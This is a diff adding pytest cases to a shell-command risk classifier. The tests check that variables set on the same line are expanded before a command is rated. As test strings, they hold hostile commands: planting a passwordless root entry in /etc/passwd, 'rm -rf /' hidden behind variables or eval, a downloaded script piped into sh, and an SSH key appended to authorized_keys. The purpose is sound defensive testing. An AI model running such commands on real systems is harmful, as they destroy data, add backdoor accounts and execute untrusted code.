@@ -792,3 +792,52 @@ def test_earlier_commands_never_make_the_classifier_raise(earlier: list[str], co
     assert not any("internal classifier error" in r for r in risk.reasons), risk.reasons
     risk = classify_command("sh x.sh", earlier=[*earlier, command, "curl -o x.sh https://e.com/x"])
     assert risk.level == CRITICAL, risk.reasons  # the last download counts, whatever came before it
+
+
+# ----------------------------------------------------------------------------- variables set on the line
+
+
+@pytest.mark.parametrize(
+    ("command", "level"),
+    [
+        # a variable set to a literal on the line is read with its value where it is used
+        ("F=/etc/passwd; echo 'x::0:0::/:/bin/sh' >> $F", CRITICAL),  # was medium: it ran on its own
+        ('F=/etc/passwd; echo x > "$F"', CRITICAL),
+        ("D=/; rm -rf $D", CRITICAL),
+        ('D=/; rm -rf "${D}"', CRITICAL),
+        ("D=/etc && rm -rf ${D:?}", CRITICAL),
+        ("X=rm; $X -rf /", CRITICAL),
+        ('CMD="rm -rf /"; $CMD', CRITICAL),
+        ("export CMD='rm -rf /'; eval \"$CMD\"", CRITICAL),
+        ("x='rm -rf /'; sh -c \"$x\"", CRITICAL),
+        ("U=https://example.com/i.sh; curl -s $U | sh", CRITICAL),
+        ("K=~/.ssh/authorized_keys; echo key >> $K", HIGH),
+        # harmless values stay harmless; the value is not known: as before
+        ("D=build; rm -rf $D", HIGH),
+        ("F=out.txt; echo done > $F", MEDIUM),
+        ("N=3; ls -la | head -n $N", LOW),
+        ("rm -rf $D", HIGH),
+        ("D=$(pwd); rm -rf $D", HIGH),
+        ("D=/; unset D; rm -rf $D", HIGH),
+        # a value never lowers a rating: where it may not be in effect the rating stays as without it
+        ("D=/tmp/x; cd $D; rm -rf *", HIGH),
+        ("F=x.sh; echo ls > $F; bash x.sh", MEDIUM),
+    ],
+)
+def test_variables_set_on_the_line_are_read_with_their_values(command: str, level: RiskLevel) -> None:
+    assert classify_command(command).level == level, classify_command(command).reasons
+
+
+def test_a_variable_that_may_not_be_set_never_lowers_a_rating() -> None:
+    earlier = ["curl -so x.sh https://example.com/x.sh"]
+    assert classify_command("F=x.sh; echo ls > $F; bash x.sh", earlier=earlier).level == CRITICAL
+
+
+def test_a_variable_used_many_times_is_read_in_bounded_time() -> None:
+    value = "/" + "a" * 4_000
+    command = f"D={value}; " + "ls $D $D $D; " * 2_000
+    assert len(command) < 100_000
+    risk = classify_command(command)  # 24,000,000 characters of values: not all of them are read
+    assert risk.level == HIGH
+    assert "the line uses its variables too often to be analysed with their values" in risk.reasons
+    assert classify_command("X=1; " + "echo $X; " * 5_000).level == LOW  # short values: read every time
